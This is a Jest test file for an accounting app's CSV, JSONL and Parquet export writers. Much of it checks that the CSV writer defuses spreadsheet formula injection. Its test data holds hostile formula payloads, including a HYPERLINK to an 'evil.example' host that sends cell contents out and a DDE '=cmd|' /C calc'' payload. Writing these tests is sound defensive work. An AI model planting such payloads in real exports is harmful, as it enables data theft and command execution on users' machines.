import { createHash, pbkdf2 } from 'node:crypto';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { gunzipSync } from 'node:zlib';
import { DuckDBInstance } from '@duckdb/node-api';
import { parquetMetadata, parquetReadObjects, type FileMetaData } from 'hyparquet';
import { DirObjectStore } from '../../../src/adapters/local/dir-object-store';
import type { JsonText } from '../../../src/core/accounting-api';
import { parseMinorUnits } from '../../../src/core/accounting-api/money';
import { csvCell, TimestampFormatter } from '../../../src/core/exports/formats/csv-writer';
import { ObjectSink, type WrittenObject } from '../../../src/core/exports/formats/object-sink';
import { transactionsTable, type Table } from '../../../src/core/exports/formats/dataset-tables';
import type { ExportFormat } from '../../../src/core/exports/formats/datasets';
import { createWriter, FORMAT_FILES } from '../../../src/core/exports/formats/writers';
import { ValidationError } from '../../../src/core/shared/errors';
import { CATEGORIES, PARQUET_DECOMPRESSORS, transaction, transactions } from '../../helpers/export-fixtures';
import { formulaCells, parseSpreadsheetCsv } from '../../helpers/spreadsheet-csv';

const NAMES = new Map(CATEGORIES.map((c) => [c.parsed.publicId, c.parsed.name]));

async function write<I extends { raw: unknown; json?: JsonText }>(
  store: DirObjectStore,
  format: ExportFormat,
  table: Table<I>,
  items: Iterable<I>,
  key = `out/data.${FORMAT_FILES[format].extension}`,
  rowGroupRows?: number,
): Promise<{ object: WrittenObject; bytes: Buffer }> {
  const writer = createWriter(format, new ObjectSink(store, key, FORMAT_FILES[format].contentType), table.columns, {
    parquetRowGroupRows: rowGroupRows,
  });
  let index = 0;
  for (const item of items) {
    const row = table.row(item, {
      index: index++,
      defaultCurrency: 'EUR',
      parquet: format === 'parquet',
      categoryName: (id) => NAMES.get(id) ?? null,
    });
    const wait = writer.write(item.raw, row, item.json);
    if (wait) await wait;
  }
  const object = await writer.finish();
  return { object, bytes: Buffer.from((await store.get(key))!) };
}

/** Descriptions that would run as formulas in a spreadsheet reading the CSV on `,` or on `;`. */
const HOSTILE = [
  'Rent;=HYPERLINK("http://evil","x")',
  'Rent,=HYPERLINK("http://evil","x")',
  'a; +SUM(A1)',
  'x;"=1+1"',
  '@cmd',
  'net, -12 ; @x',
  'Plain; and, calm',
  'Invoice 42\n=HYPERLINK("http://evil.example/?"&A1,"Click")',
  'Invoice 43\r\n @SUM(A1)',
  'Two\rlines;\n"+1',
  'Paragraph\r\n\r\nand more',
  ' =1+1',
  '  @SUM(A1)',
  '\t-2',
  // A CR that opens the cell ends the `;` reader's row there: what follows starts a row of its own.
  '\r=1+1;x',
  '\r@SUM(A1);x',
  '\r -2+3;x',
  '\r"+1;x',
  '\r\n=1',
  '\t=1',
];

describe('export formats', () => {
  let root: string;
  let store: DirObjectStore;
  beforeEach(async () => {
    root = await mkdtemp(join(tmpdir(), 'acctops-formats-'));
    store = new DirObjectStore(root);
  });
  afterEach(() => rm(root, { recursive: true, force: true }));

  describe('CSV', () => {
    it('formats timestamps exactly as toISOString, in order, backwards, across days and outside years 0-9999', () => {
      const formatter = new TimestampFormatter();
      const values = [
        Date.UTC(2026, 9, 31, 23, 59, 59, 999),
        Date.UTC(2026, 10, 1, 0, 0, 0, 0),
        Date.UTC(2026, 10, 1, 0, 0, 0, 1),
        Date.UTC(2026, 9, 1, 12, 0, 0, 5),
        Date.UTC(2026, 10, 1, 13, 7, 9, 42),
        0,
        -1,
        -86_400_001,
        Date.UTC(1969, 11, 31, 23, 0, 0, 0),
        253_402_300_799_999,
        253_402_300_800_000,
        -62_167_219_200_001,
      ];
      let state = 12345;
      for (let i = 0; i < 2000; i++) {
        state = (state * 1103515245 + 12345) % 2 ** 31;
        values.push(Date.UTC(2026, 9, 1) + (state % (40 * 86_400_000)) - 5 * 86_400_000);
      }
      for (const ms of values) expect(formatter.format(ms)).toBe(new Date(ms).toISOString());
    });

    it('writes exactly the documented bytes: BOM, header, CRLF, exact decimals, ISO dates', async () => {
      const items = [
        transaction(0, { amount: -4999, valueDate: '2026-10-31T23:30:00-02:00', description: 'Paper, "A4"' }),
        transaction(1, { amount: '1234.50', cashflowType: 'Income', currency: null, category: null, description: 'multi\nline' }),
      ];
      const { bytes, object } = await write(store, 'csv', transactionsTable, items);
      const text = bytes.toString('utf8');
      expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
      expect(text.slice(1).split('\r\n')).toEqual([
        'public_id,value_date_local,value_date,value_date_utc,value_date_offset_minutes,amount,amount_minor,currency,cashflow_type,category_id,category_name,description,bank_account_id',
        `7e57da7a-0000-4000-8000-000000000000,2026-10-31,2026-10-31T23:30:00-02:00,2026-11-01T01:30:00.000Z,-120,-49.99,-4999,EUR,EXPENSE,${CATEGORIES[0]!.parsed.publicId},Office supplies,"Paper, ""A4""",b0b0b0b0-0000-4000-8000-000000000001`,
        `7e57da7a-0000-4000-8000-000000000001,2026-10-02,2026-10-02T01:15:00+02:00,2026-10-01T23:15:00.000Z,120,1234.50,123450,EUR,INCOME,,,"multi\nline",b0b0b0b0-0000-4000-8000-000000000001`,
        '',
      ]);
      expect(object.bytes).toBe(bytes.byteLength);
      expect(object.sha256).toBe(createHash('sha256').update(bytes).digest('hex'));
    });

    it('writes a repeated value as the same cell, and a changed one afresh: hostile and clean values alternating, runs of each', async () => {
      // The writer reuses the last cell of a column whose value repeats; every row must still read as
      // if its cells were made on their own.
      const descriptions = [
        'Rent;=HYPERLINK("x")',
        'Rent;=HYPERLINK("x")',
        'Coffee',
        'Coffee',
        '=1+1',
        'Coffee',
        'Paper, "A4"',
        'Paper, "A4"',
        '=1+1',
      ];
      const currencies = ['EUR', 'EUR', 'JPY', 'EUR', 'EUR', 'KWD', 'KWD', 'EUR', 'JPY'];
      const items = descriptions.map((description, i) =>
        transaction(i, {
          description,
          currency: currencies[i]!,
          amount: -1250,
          category: i % 3 === 0 ? null : CATEGORIES[i % 2]!.parsed.publicId,
        }),
      );
      const text = (await write(store, 'csv', transactionsTable, items)).bytes.toString('utf8').slice(1);
      const rows = parseSpreadsheetCsv(text, ',').slice(1, items.length + 1);
      const header = parseSpreadsheetCsv(text, ',')[0]!;
      const at = (name: string) => header.indexOf(name);
      expect(rows.map((r) => r[at('description')])).toEqual(descriptions.map((d) => parseSpreadsheetCsv(csvCell('text', d), ',')[0]![0]));
      expect(rows.map((r) => r[at('currency')])).toEqual(currencies);
      expect(rows.map((r) => r[at('amount')])).toEqual(currencies.map((c) => ({ EUR: '-12.50', JPY: '-1250', KWD: '-1.250' })[c]));
      expect(rows.map((r) => r[at('category_id')])).toEqual(items.map((_, i) => (i % 3 === 0 ? '' : CATEGORIES[i % 2]!.parsed.publicId)));
      expect(rows.map((r) => r[at('category_name')])).toEqual(items.map((_, i) => (i % 3 === 0 ? '' : CATEGORIES[i % 2]!.parsed.name)));
    });

    it('defuses text that a spreadsheet would run as a formula, but leaves amounts numeric', () => {
      expect(csvCell('text', '=HYPERLINK("http://evil","x")')).toBe(`"'=HYPERLINK(""http://evil"",""x"")"`);
      expect(csvCell('text', '+49 30 1234')).toBe(`"'+49 30 1234"`);
      expect(csvCell('text', '-42')).toBe(`"'-42"`);
      expect(csvCell('text', '@SUM(A1)')).toBe(`"'@SUM(A1)"`);
      expect(csvCell('text', '\tcmd')).toBe(`"'\tcmd"`);
      expect(csvCell('text', '\rcmd')).toBe(`"'\rcmd"`);
      expect(csvCell('text', 'plain = fine')).toBe('plain = fine');
      // After leading whitespace (spreadsheets skip it), and after a line break: a `;` reader does
      // not see the quotes, so the line break starts a row there whose first cell is the formula.
      expect(csvCell('text', ' =1+1')).toBe(`" '=1+1"`);
      expect(csvCell('text', '  @SUM(A1)')).toBe(`"  '@SUM(A1)"`);
      expect(csvCell('text', '\t=1')).toBe(`"'\t=1"`);
      expect(csvCell('text', 'Invoice 42\n=HYPERLINK("http://evil.example/?"&A1,"Click")')).toBe(
        `"Invoice 42\n'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`,
      );
      expect(csvCell('text', 'a\r\n  "+1')).toBe(`"a\r\n  ""'+1"`);
      expect(csvCell('text', 'a\r-1')).toBe(`"a\r'-1"`);
      // A CR that opens the cell gets its own apostrophe and one after it, before what starts the next row.
      expect(csvCell('text', '\r=1+1;x')).toBe(`"'\r'=1+1;x"`);
      expect(csvCell('text', '\r@SUM(A1);x')).toBe(`"'\r'@SUM(A1);x"`);
      expect(csvCell('text', '\r \t"-2')).toBe(`"'\r \t""'-2"`);
      expect(csvCell('text', '\r\n=1')).toBe(`"'\r\n'=1"`);
      expect(csvCell('text', '\r\r=1')).toBe(`"'\r\r'=1"`);
      // Ordinary multi-line text keeps its bytes: a blank line or an indented one is no formula.
      expect(csvCell('text', 'line 1\r\n\r\n\tline 3')).toBe(`"line 1\r\n\r\n\tline 3"`);
      expect(csvCell('text', ' leading space')).toBe(' leading space');
      expect(csvCell('decimal', -4999n)).toBe('-49.99');
      expect(csvCell('decimal', -5n)).toBe('-0.05');
      expect(csvCell('integer', -4999n)).toBe('-4999');
      expect(csvCell('text', null)).toBe('');
    });

    it('quotes a cell holding either list separator, a quote or a line break, and only such a cell', () => {
      // `;` alone matters most: it is the excel-de dialect's separator, and a `;` reader splits on it.
      expect(csvCell('text', 'Rent; October')).toBe('"Rent; October"');
      expect(csvCell('text', 'Rent, October')).toBe('"Rent, October"');
      expect(csvCell('text', 'say "hi"')).toBe('"say ""hi"""');
      expect(csvCell('text', 'two\nlines')).toBe('"two\nlines"');
      expect(csvCell('text', 'Rent October')).toBe('Rent October');
    });

    it('leaves no cell that runs as a formula in any text of up to 4 separators, line breaks, blanks, quotes and `=`', () => {
      const alphabet = ['\r', '\n', '\t', ' ', '"', ';', ',', '=', 'a'];
      const texts: string[] = [];
      let longest = [''];
      for (let length = 1; length <= 4; length++) {
        longest = longest.flatMap((text) => alphabet.map((c) => text + c));
        texts.push(...longest);
      }
      const lines = texts.map((text) => `k,${csvCell('text', text)},z\r\n`);
      // A "," reader gets each text back whole, and its start is never a formula, a tab or a CR.
      const comma = parseSpreadsheetCsv(lines.join(''), ',');
      expect(comma).toHaveLength(texts.length);
      expect(formulaCells(comma.map((row) => row.slice(1)))).toEqual([]);
      expect(comma.map((row) => row[1]!.replace(/((?:^|[,;\r\n])[\s"]*)'(?=[=+\-@\t\r])/g, '$1'))).toEqual(texts);
      // A ";" reader starts a cell after every separator and a row after every line break; none of
      // them runs. (An indented line keeps its tab, as documented: `\n\t'=` is text.)
      const runs = texts.filter((text, i) =>
        parseSpreadsheetCsv(lines[i]!, ';')
          .flat()
          .some((cell) => /^[\s"]*[=+\-@]/.test(cell)),
      );
      expect(runs).toEqual([]);
    });

    it('protects descriptions in the file while the raw JSONL keeps them as sent', async () => {
      const item = transaction(0, { description: '=cmd|" /C calc"!A0' });
      const csv = (await write(store, 'csv', transactionsTable, [item])).bytes.toString('utf8');
      expect(csv).toContain(`"'=cmd|"" /C calc""!A0"`);
      const jsonl = gunzipSync((await write(store, 'jsonl', transactionsTable, [item])).bytes).toString('utf8');
      expect(JSON.parse(jsonl.trim()).description).toBe('=cmd|" /C calc"!A0');
    });

    it('defuses only the CSV: JSONL and Parquet keep every hostile description as sent', async () => {
      const items = HOSTILE.map((description, i) => transaction(i, { description }));
      const jsonl = gunzipSync((await write(store, 'jsonl', transactionsTable, items)).bytes).toString('utf8');
      expect(
        jsonl
          .trim()
          .split('\n')
          .map((line) => JSON.parse(line).description),
      ).toEqual(HOSTILE);
      const file = new Uint8Array((await write(store, 'parquet', transactionsTable, items, 'out/h.parquet')).bytes).buffer;
      const rows = await parquetReadObjects({ file, columns: ['description'], compressors: PARQUET_DECOMPRESSORS });
      expect(rows.map((r) => r.description)).toEqual(HOSTILE);
    });
    it('prints each amount with its currency’s fraction digits (Intl): JPY 0, EUR 2, KWD 3', async () => {
      const items = [
        transaction(0, { amount: -500, currency: 'JPY' }),
        transaction(1, { amount: 1250, currency: 'KWD' }),
        transaction(2, { amount: 1250, currency: 'EUR' }),
      ];
      const lines = (await write(store, 'csv', transactionsTable, items)).bytes.toString('utf8').split('\r\n').slice(1, 4);
      expect(lines.map((l) => l.split(',').slice(5, 8))).toEqual([
        ['-500', '-500', 'JPY'],
        ['1.250', '1250', 'KWD'],
        ['12.50', '1250', 'EUR'],
      ]);
    });

    it.each([',', ';'])(
      'no cell starts a formula when a spreadsheet splits the file on %j, and "," readers get every description back',
      async (separator) => {
        const items = HOSTILE.map((description, i) => transaction(i, { description, amount: i % 2 === 0 ? -4999 : 1250 }));
        const text = (await write(store, 'csv', transactionsTable, items)).bytes.toString('utf8').slice(1);
        const rows = parseSpreadsheetCsv(text, separator);
        expect(formulaCells(rows)).toEqual([]);
        if (separator === ',') {
          expect(rows).toHaveLength(items.length + 1);
          const column = rows[0]!.indexOf('description');
          // Defused: an apostrophe before each formula start, nothing else changed.
          expect(rows.slice(1).map((r) => r[column]!.replace(/((?:^|[,;\r\n])[\s"]*)'(?=[=+\-@\t\r])/g, '$1'))).toEqual(HOSTILE);
        } else {
          // The line breaks of the descriptions start rows of their own there.
          expect(rows.length).toBeGreaterThan(items.length + 1);
        }
      },
    );

    it('DuckDB, splitting the file on ";" as a German Excel does, finds no cell that starts a formula', async () => {
      const items = HOSTILE.map((description, i) => transaction(i, { description }));
      await write(store, 'csv', transactionsTable, items);
      // DuckDB 1.5 drops the character after a CR that is not part of a CRLF (`a\rbcd` reads as
      // `a` and `cd`), so it would read a defused `\r'=1` as `=1`, which no spreadsheet does. The
      // ";" reading leaves those descriptions to parseSpreadsheetCsv above.
      const crlfOnly = HOSTILE.filter((d) => !/\r(?!\n)/.test(d)).map((description, i) => transaction(i, { description }));
      await write(store, 'csv', transactionsTable, crlfOnly, 'out/crlf.csv');
      const instance = await DuckDBInstance.create(':memory:');
      const db = await instance.connect();
      try {
        const file = join(root, 'out/data.csv');
        // No sniffing, quotes honoured only at the start of a field, rows of any width: a
        // spreadsheet's reading, not an RFC 4180 one.
        const wide = Array.from({ length: 40 }, (_, i) => `'c${i}': 'VARCHAR'`).join(', ');
        const semicolon = (
          await db.runAndReadAll(
            `SELECT * FROM read_csv('${join(root, 'out/crlf.csv')}', delim = ';', quote = '"', escape = '"', header = false, auto_detect = false, strict_mode = false, null_padding = true, columns = {${wide}})`,
          )
        ).getRows() as (string | null)[][];
        expect(semicolon.length).toBeGreaterThan(crlfOnly.length + 1);
        expect(formulaCells(semicolon.map((r) => r.filter((c): c is string => c !== null)))).toEqual([]);
        const comma = (
          await db.runAndReadAll(
            `SELECT description FROM read_csv('${file}', delim = ',', quote = '"', escape = '"', header = true, all_varchar = true)`,
          )
        ).getRows() as string[][];
        expect(comma.map(([d]) => d!.replace(/((?:^|[,;\r\n])[\s"]*)'(?=[=+\-@\t\r])/g, '$1'))).toEqual(HOSTILE);
      } finally {
        // The instance too: an open one keeps a native handle that stops Jest's worker from exiting.
        db.closeSync();
        instance.closeSync();
      }
    });
    it("docs/exports.md's DuckDB queries sum `amount` exactly, where read_csv's own guess is a DOUBLE", async () => {
      const items = [...transactions(500)];
      await write(store, 'csv', transactionsTable, items);
      const minor = items.reduce((sum, t) => sum + t.parsed.amount, 0n);
      const docs = await readFile(join(__dirname, '..', '..', '..', 'docs', 'exports.md'), 'utf8');
      const queries = [...docs.matchAll(/^\s*(SELECT currency, sum\(amount(?:_minor)?\)[^\n]*read_csv\('part-00000\.csv'[^\n]*);$/gm)].map(
        (m) => m[1]!,
      );
      expect(queries).toHaveLength(2);
      const instance = await DuckDBInstance.create(':memory:');
      const db = await instance.connect();
      try {
        const file = join(root, 'out/data.csv');
        const sums = [];
        for (const sql of queries) {
          const rows = (await db.runAndReadAll(sql.replace('part-00000.csv', file))).getRowObjectsJson();
          sums.push(rows.map((r) => Object.values(r).map(String)));
        }
        const sign = minor < 0n ? '-' : '';
        const abs = minor < 0n ? -minor : minor;
        expect(sums).toEqual([[['EUR', `${sign}${abs / 100n}.${String(abs % 100n).padStart(2, '0')}00`]], [['EUR', String(minor)]]]);
        const guessed = await db.runAndReadAll(`SELECT typeof(amount) AS t FROM read_csv('${file}') LIMIT 1`);
        expect(guessed.getRowObjectsJson()).toEqual([{ t: 'DOUBLE' }]);
      } finally {
        db.closeSync();
        instance.closeSync();
      }
    });
  });

  describe('raw JSONL.gz', () => {
    it('holds each object as returned, one per line, big integers as the client kept them', async () => {
      const big = transaction(2);
      (big.raw as Record<string, unknown>).externalRef = '123456789012345678901234567890';
      (big.raw as Record<string, unknown>).nested = { list: [1, 2.5, null, true], ü: 'ß' };
      const items = [transaction(0, { amount: '-0.05' }), transaction(1, { amount: 12 }), big];
      const { bytes } = await write(store, 'jsonl', transactionsTable, items);
      // gzip header: magic, deflate, no flags (no file name), mtime 0.
      expect([...bytes.subarray(0, 8)]).toEqual([0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00]);
      const lines = gunzipSync(bytes).toString('utf8').split('\n');
      expect(lines.pop()).toBe('');
      expect(lines).toEqual(items.map((i) => JSON.stringify(i.raw)));
      expect(lines[0]).toContain('"amount":"-0.05"');
      expect(lines[1]).toContain('"amount":12');
      expect(JSON.parse(lines[2]!)).toEqual(big.raw);
    });

    it('keeps every line whole across the chunks handed to gzip: multi-byte text, and a line longer than a chunk', async () => {
      const items = Array.from({ length: 6000 }, (_, i) => {
        const item = transaction(i);
        // 3-byte and 4-byte UTF-8 (a surrogate pair) near every chunk boundary; one line of ~1.5 MiB.
        (item.raw as Record<string, unknown>).note = i === 2500 ? '€'.repeat(500_000) : `${'€'.repeat(i % 97)}😀${i}`;
        return item;
      });
      const { bytes } = await write(store, 'jsonl', transactionsTable, items);
      const lines = gunzipSync(bytes).toString('utf8').split('\n');
      expect(lines.pop()).toBe('');
      expect(lines).toEqual(items.map((i) => JSON.stringify(i.raw)));
    });

    it('writes the text the API sent when the item carries it, byte for byte, and serialises the others', async () => {
      // One page body shared by the items, as the client hands it out; the texts differ from
      // JSON.stringify(raw) (spelling, a literal beyond 2^53), so the test sees which one was written.
      const page = Buffer.from('{"results":[{"amount":-0.50,"n":1},{"amount":9007199254740993,"note":"€😀"}]}');
      const at = (from: string, to: string) => ({ bytes: page, start: page.indexOf(from), end: page.indexOf(to) + Buffer.byteLength(to) });
      const texts = [at('{"amount":-0.50', '"n":1}'), at('{"amount":9007', '😀"}')];
      const long = Buffer.from(`{"note":"${'€'.repeat(300_000)}"}`);
      const items = [
        { ...transaction(0), json: texts[0] },
        transaction(1),
        { ...transaction(2), json: texts[1] },
        { ...transaction(3), json: { bytes: long, start: 0, end: long.length } },
        ...Array.from({ length: 3000 }, (_, i) => ({ ...transaction(4 + i), json: texts[i % 2] })),
      ];
      const { bytes } = await write(store, 'jsonl', transactionsTable, items);
      const lines = gunzipSync(bytes).toString('utf8').split('\n');
      expect(lines.pop()).toBe('');
      const expected = items.map((i) =>
        i.json ? Buffer.from(i.json.bytes.subarray(i.json.start, i.json.end)).toString('utf8') : JSON.stringify(i.raw),
      );
      expect(lines).toEqual(expected);
      expect(lines[0]).toBe('{"amount":-0.50,"n":1}');
      expect(lines[2]).toBe('{"amount":9007199254740993,"note":"€😀"}');
    });

    it('never reuses a chunk gzip has not finished reading: many chunks of distinct lines arrive intact', async () => {
      // ~20 chunks of 512 KiB in one go, each line different, so a chunk refilled too early shows.
      const page = Buffer.from(Array.from({ length: 40_000 }, (_, i) => `{"n":${i},"pad":"${String(i).repeat(40)}"}`).join(','));
      const items: { raw: unknown; parsed: ReturnType<typeof transaction>['parsed']; json: JsonText }[] = [];
      for (let start = 0, i = 0; start < page.length; i++) {
        const end = page.indexOf('}', start) + 1;
        items.push({ ...transaction(i % 50), json: { bytes: page, start, end } });
        start = end + 1;
      }
      // The thread pool busy at first, so gzip falls behind and its queue holds chunks not yet read.
      const busy = Array.from({ length: 4 }, () => promisify(pbkdf2)('x', 'salt', 300_000, 32, 'sha256'));
      const { bytes } = await write(store, 'jsonl', transactionsTable, items);
      await Promise.all(busy);
      const lines = gunzipSync(bytes).toString('utf8').split('\n');
      expect(lines.pop()).toBe('');
      expect(lines).toHaveLength(40_000);
      lines.forEach((line, i) => {
        if (line !== `{"n":${i},"pad":"${String(i).repeat(40)}"}`) throw new Error(`line ${i} differs: ${line.slice(0, 60)}`);
      });
    });

    it('refuses a raw record that JSON cannot represent instead of writing a broken line', async () => {
      const bad = transaction(0);
      (bad.raw as Record<string, unknown>).amount = 10n;
      await expect(write(store, 'jsonl', transactionsTable, [bad])).rejects.toBeInstanceOf(ValidationError);
      expect(await store.head('out/data.jsonl.gz')).toBeUndefined();
    });
  });

  describe('Parquet', () => {
    const items = [...transactions(25)];
    items.push(transaction(25, { amount: '-99999999999999.99', valueDate: '2026-10-31T23:30:00.987654-02:00' }));
    items.push(transaction(26, { amount: 1, category: null, description: null }));

    async function readBack(rowGroupRows?: number) {
      const { bytes } = await write(store, 'parquet', transactionsTable, items, 'out/t.parquet', rowGroupRows);
      const file = new Uint8Array(bytes).buffer;
      const metadata = parquetMetadata(file);
      return { file, metadata, rows: await parquetReadObjects({ file, metadata, compressors: PARQUET_DECOMPRESSORS }) };
    }

    it('reads back with exact amounts: INT64 minor units and DECIMAL(18,4) unscaled values', async () => {
      const { file, metadata, rows } = await readBack(10);
      expect(metadata.row_groups.length).toBe(3);
      expect(rows).toHaveLength(items.length);
      const expected = items.map((i) => parseMinorUnits((i.raw as { amount: unknown }).amount));
      expect(rows.map((r) => r.amount_minor)).toEqual(expected);

      const amount = metadata.schema.find((e) => e.name === 'amount')!;
      expect(amount).toMatchObject({ type: 'INT64', converted_type: 'DECIMAL', precision: 18, scale: 4 });
      // hyparquet turns DECIMAL into a JS number; reading the same column without the annotation
      // yields the stored unscaled integers, which must be the exact EUR minor units times 100.
      const raw: FileMetaData = {
        ...metadata,
        schema: metadata.schema.map((e) => (e.name === 'amount' ? { name: e.name, type: e.type, repetition_type: e.repetition_type } : e)),
      };
      const unscaled = await parquetReadObjects({ file, metadata: raw, columns: ['amount'], compressors: PARQUET_DECOMPRESSORS });
      expect(unscaled.map((r) => r.amount)).toEqual(expected.map((minor) => minor * 100n));
      expect(expected).toContain(-9999999999999999n);
    });

    it('stores no floating point column at all', async () => {
      const { metadata } = await readBack();
      const types = metadata.schema.slice(1).map((e) => e.type);
      expect(types).not.toContain('DOUBLE');
      expect(types).not.toContain('FLOAT');
    });

    it("compresses every column chunk with GZIP (Node's zlib), which the usual readers support", async () => {
      const { metadata } = await readBack(10);
      const codecs = new Set(metadata.row_groups.flatMap((g) => g.columns.map((c) => c.meta_data?.codec)));
      expect([...codecs]).toEqual(['GZIP']);
    });

    it('writes unique columns PLAIN without statistics; the instant keeps its range statistics', async () => {
      const { metadata } = await readBack();
      const chunk = (name: string) => metadata.row_groups[0]!.columns.find((c) => c.meta_data!.path_in_schema[0] === name)!.meta_data!;
      for (const name of ['public_id', 'value_date']) {
        expect(chunk(name).encodings).toEqual(['PLAIN']);
        expect(chunk(name).statistics).toBeUndefined();
      }
      expect(chunk('value_date_utc').statistics).toMatchObject({ null_count: 0n });
      expect(chunk('value_date_utc').statistics!.min_value).toBeDefined();
      expect(chunk('currency').encodings).toContain('RLE_DICTIONARY');
    });

    it("keeps min/max statistics only where a row group's range can prune a query", async () => {
      const { metadata } = await readBack();
      const chunk = (name: string) => metadata.row_groups[0]!.columns.find((c) => c.meta_data!.path_in_schema[0] === name)!.meta_data!;
      for (const name of ['value_date_offset_minutes', 'category_id', 'category_name', 'description', 'bank_account_id']) {
        expect(chunk(name).statistics).toBeUndefined();
      }
      for (const name of ['value_date_local', 'value_date_utc', 'amount', 'amount_minor', 'currency']) {
        expect(chunk(name).statistics?.min_value).toBeDefined();
      }
    });

    it('keeps timestamps in UTC with the original text and offset alongside', async () => {
      const { metadata, rows } = await readBack();
      const utc = metadata.schema.find((e) => e.name === 'value_date_utc')!;
      expect(utc.logical_type).toEqual({ type: 'TIMESTAMP', isAdjustedToUTC: true, unit: 'MILLIS' });
      const last = rows.find((r) => r.public_id === (items[25]!.raw as { publicId: string }).publicId)!;
      expect((last.value_date_utc as Date).toISOString()).toBe('2026-11-01T01:30:00.987Z');
      expect(last.value_date).toBe('2026-10-31T23:30:00.987654-02:00');
      expect(last.value_date_offset_minutes).toBe(-120n);
      expect((last.value_date_local as Date).toISOString()).toBe('2026-10-31T00:00:00.000Z');
      const nulls = rows.find((r) => r.amount_minor === 1n)!;
      expect([nulls.category_id, nulls.category_name, nulls.description].map((v) => v ?? null)).toEqual([null, null, null]);
      expect(rows[0]!.category_name).toBe('Office supplies');
    });
  });

  it('is deterministic: the same records give the same bytes in every format', async () => {
    const items = [...transactions(500)];
    for (const format of ['jsonl', 'csv', 'parquet'] as const) {
      const first = await write(store, format, transactionsTable, items, `a/x.${format}`, 128);
      const second = await write(store, format, transactionsTable, items, `b/x.${format}`, 128);
      expect(second.object.sha256).toBe(first.object.sha256);
      expect(second.bytes.equals(first.bytes)).toBe(true);
    }
  });

  it('names the record and the field when a record is unusable', () => {
    const good = transaction(3);
    const bad = { raw: good.raw, parsed: { ...good.parsed, valueDate: '2026-10-03 10:00' } };
    let error: unknown;
    try {
      transactionsTable.row(bad, { index: 3, defaultCurrency: 'EUR', parquet: true, categoryName: () => null });
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(ValidationError);
    expect((error as ValidationError).field).toBe('valueDate');
    expect((error as ValidationError).message).toContain(good.parsed.publicId);
    const t = transaction(4);
    const float = { raw: t.raw, parsed: { ...t.parsed, amount: 49.99 as unknown as bigint } };
    expect(() => transactionsTable.row(float, { index: 4, defaultCurrency: 'EUR', parquet: true, categoryName: () => null })).toThrow(
      /amount/,
    );
  });
});
